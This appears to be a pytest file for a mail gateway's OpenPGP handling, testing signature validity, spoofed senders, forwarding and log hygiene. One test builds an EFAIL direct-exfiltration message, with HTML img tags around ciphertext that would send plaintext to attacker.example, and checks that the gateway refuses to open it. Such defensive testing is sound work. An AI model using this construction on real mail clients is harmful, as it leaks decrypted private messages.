"""What a message proves when it is opened."""

from __future__ import annotations

import logging
import subprocess

import pytest

from gateway.adapters.openpgp import GnuPG
from gateway.model.content.confidential import ConfidentialBytes
from gateway.model.content.message import Part
from gateway.model.kinds import ContentEncryption, ContentSignature
from gateway.stages.openpgp.ciphertext_gate import GateRules, check
from gateway.stages.openpgp.pgp_mime import OUTER_SUBJECT, build, protect
from gateway.steps.intake.open import AS_IT_CAME, OpenedContent, open_content
from tests.key_homes import HERE_ADDRESS, THERE_ADDRESS, Panels
from tests.parsed import mail_by

OUTER = (
    ("From", HERE_ADDRESS),
    ("To", THERE_ADDRESS),
    ("Subject", OUTER_SUBJECT),
    ("Date", "Mon, 23 Nov 2026 03:00:00 +0000"),
    ("Message-ID", "<019ab000-0001@here.example>"),
)
RULES = GateRules({"from": HERE_ADDRESS, "to": THERE_ADDRESS, "message-id": "<019ab000-0001@here.example>"})
ENTITY = b"Content-Type: text/plain; charset=utf-8\r\n\r\nThe content.\r\n"


async def sent(openpgp: GnuPG, panels: Panels) -> bytes:
    payload = protect(OUTER, "The inner subject", ENTITY)
    sealed = await openpgp.encrypt_and_sign(ConfidentialBytes(payload), [panels.there.own])
    return build(OUTER, sealed)


async def test_what_we_send_passes_the_gate_and_is_opened_with_a_good_signature_of_the_panel(panels: Panels) -> None:
    message = await sent(panels.openpgp(), panels)
    assert check(message, await panels.openpgp().encryption_subkeys([panels.there.own]), RULES).passes
    found = await open_content(
        mail_by(HERE_ADDRESS, "multipart/encrypted"),
        ConfidentialBytes(message),
        panels.openpgp_there(),
        None,
        panels.enrolled_there(),
    )
    assert found.inner_raw is not None
    assert b"Subject: The inner subject\r\n" in found.inner_raw.reveal()
    assert found.state.encrypted is ContentEncryption.OPENPGP
    assert found.state.signature is ContentSignature.GOOD
    assert found.state.signer == "here"


@pytest.mark.parametrize("author", ["somebody@here.example", "secure@here.example.attacker.example"])
async def test_a_good_signature_under_another_from_does_not_count(panels: Panels, author: str) -> None:
    message = await sent(panels.openpgp(), panels)
    found = await open_content(
        mail_by(author, "multipart/encrypted"),
        ConfidentialBytes(message),
        panels.openpgp_there(),
        None,
        panels.enrolled_there(),
    )
    assert found.state.opened
    assert found.state.signature is ContentSignature.UNKNOWN
    assert found.state.signer is None


def leaf(content: bytes, content_type: str = "text/plain") -> Part:
    return Part((0,), content_type, None, None, None, ConfidentialBytes(content))


async def found_in(
    panels: Panels, raw: bytes, parts: tuple[Part, ...] = (), author: str = HERE_ADDRESS
) -> OpenedContent:
    mail = mail_by(author, parts=parts)
    openpgp = panels.openpgp_there()
    try:
        return await open_content(mail, ConfidentialBytes(raw), openpgp, None, panels.enrolled_there())
    finally:
        openpgp.close()


def gpg(panels: Panels, *args: str, content: bytes) -> bytes:
    command = ["gpg", "--homedir", str(panels.here.home), "--batch", "--quiet", "--armor", "--trust-model", "always"]
    return subprocess.run([*command, *args], input=content, capture_output=True, check=True).stdout.replace(
        b"\n", b"\r\n"
    )


def signed_entity(panels: Panels, content: bytes = ENTITY) -> bytes:
    signature = gpg(panels, "--detach-sign", content=content)
    head = b'Content-Type: multipart/signed; protocol="application/pgp-signature"; boundary="sig"\r\n\r\n'
    return (
        head + b"--sig\r\n" + content + b"\r\n--sig\r\nContent-Type: application/pgp-signature\r\n\r\n"
        b"" + signature + b"--sig--\r\n"
    )


async def test_plain_mail_is_as_it_came(panels: Panels) -> None:
    found = await found_in(panels, b"From: a@x.example\r\n\r\nHello\r\n", (leaf(b"Hello\r\n"),))
    assert found == AS_IT_CAME


async def test_a_detached_signature_at_the_top_counts(panels: Panels) -> None:
    found = await found_in(panels, b"From: x\r\n" + signed_entity(panels))
    assert found.state.signature is ContentSignature.GOOD
    assert found.state.signer == "here"
    assert found.state.encrypted is ContentEncryption.NONE
    assert found.inner_raw is None


async def test_a_changed_signed_part_is_bad(panels: Panels) -> None:
    found = await found_in(panels, signed_entity(panels).replace(b"The content", b"Da content"))
    assert found.state.signature is ContentSignature.BAD


@pytest.mark.parametrize("mode", ["--no-textmode", "--textmode"])
async def test_a_signature_directly_inside_the_encryption_counts(panels: Panels, mode: str) -> None:
    """In text mode gpg gives the content back with bare line feeds; the signature is over CRLF."""
    sealed = gpg(panels, mode, "--encrypt", "-r", panels.there.own, content=signed_entity(panels))
    found = await found_in(panels, build(OUTER, sealed))
    assert found.state.signature is ContentSignature.GOOD
    assert found.state.signer == "here"


async def test_a_signature_deeper_inside_does_not_count(panels: Panels) -> None:
    deeper = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n' + signed_entity(panels) + b"\r\n--m--\r\n"
    sealed = gpg(panels, "--encrypt", "-r", panels.there.own, content=deeper)
    found = await found_in(panels, build(OUTER, sealed))
    assert found.state.opened
    assert found.state.signature is ContentSignature.NONE
    beside = await found_in(panels, deeper)
    assert beside.state.signature is ContentSignature.NONE


async def test_a_protected_from_that_differs_takes_the_signature_away(panels: Panels) -> None:
    """What was signed for one message is put into another, under another From (surreptitious forwarding)."""
    outer = tuple((name, "someone@here.example" if name == "From" else value) for name, value in OUTER)
    payload = protect(outer, "x", ENTITY)
    openpgp = panels.openpgp()
    sealed = await openpgp.encrypt_and_sign(ConfidentialBytes(payload), [panels.there.own])
    found = await found_in(panels, build(OUTER, sealed))
    openpgp.close()
    assert found.state.opened
    assert found.state.signature is ContentSignature.UNKNOWN


async def test_two_authors_never_count(panels: Panels) -> None:
    mail = mail_by((HERE_ADDRESS, HERE_ADDRESS), "multipart/signed")
    raw = ConfidentialBytes(signed_entity(panels))
    found = await open_content(mail, raw, panels.openpgp_there(), None, panels.enrolled_there())
    assert found.state.signature is ContentSignature.UNKNOWN


async def test_a_signer_that_is_pinned_but_not_enrolled_here_is_unknown(panels: Panels) -> None:
    raw = ConfidentialBytes(signed_entity(panels))
    found = await open_content(mail_by(HERE_ADDRESS, "multipart/encrypted"), raw, panels.openpgp_there(), None, {})
    assert found.state.signature is ContentSignature.UNKNOWN


async def test_an_encrypted_part_beside_other_parts_is_not_opened(panels: Panels) -> None:
    """EFAIL, direct exfiltration: HTML before and after the ciphertext would carry its plaintext away."""
    sealed = gpg(panels, "--encrypt", "-r", panels.there.own, content=b"secret")
    around = (leaf(b'<img src="http://attacker.example/', "text/html"), leaf(sealed), leaf(b'">', "text/html"))
    raw = b'Content-Type: multipart/mixed; boundary="m"\r\n\r\n--m\r\n\r\n' + sealed + b"\r\n--m--\r\n"
    found = await found_in(panels, raw, around)
    assert found.inner_raw is None
    assert not found.state.opened
    assert found.state.encrypted is ContentEncryption.OPENPGP


async def test_an_encrypted_text_alone_is_opened_and_one_with_words_round_it_is_not(panels: Panels) -> None:
    sealed = gpg(panels, "--encrypt", "--sign", "-r", panels.there.own, content=b"secret\r\n")
    alone = await found_in(panels, b"From: x\r\n\r\n" + sealed, (leaf(sealed),))
    assert alone.inner_raw is not None
    assert alone.inner_raw.reveal().endswith(b"secret\r\n")
    assert alone.state.signer == "here"
    words = b"Please read:\r\n" + sealed
    quoted = await found_in(panels, b"From: x\r\n\r\n" + words, (leaf(words),))
    assert quoted == AS_IT_CAME  # it is no encrypted message, and is treated as the text it is


async def test_an_smime_message_without_our_having_keys_is_not_opened(panels: Panels) -> None:
    raw = b"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nAAAA"
    found = await found_in(panels, raw)
    assert found.state.encrypted is ContentEncryption.SMIME
    assert not found.state.opened


@pytest.mark.parametrize(
    "raw",
    [
        b"no header\r\n\r\n",
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted"; boundary=b\r\n\r\n--b\r\n',
        b"Content-Type: multipart/signed; boundary=b\r\n\r\n--b\r\n\r\n--b--\r\n",
    ],
)
async def test_what_claims_protection_without_its_form_is_unreadable(panels: Panels, raw: bytes) -> None:
    found = await found_in(panels, raw)
    assert found.state.encrypted is ContentEncryption.UNREADABLE
    assert not found.state.opened


async def test_nothing_of_a_message_reaches_a_log(panels: Panels, caplog: pytest.LogCaptureFixture) -> None:
    canary = b"Canary-7d1f the inner words\r\n"
    with caplog.at_level(logging.DEBUG):
        logging.getLogger("gnupg").setLevel(logging.DEBUG)
        openpgp = panels.openpgp()
        sealed = await openpgp.encrypt_and_sign(ConfidentialBytes(canary), [panels.there.own])
        found = await panels.openpgp_there().decrypt(ConfidentialBytes(sealed))
        openpgp.close()
    assert found.plaintext == ConfidentialBytes(canary)
    assert "Canary" not in caplog.text
    assert "here.example" not in caplog.text
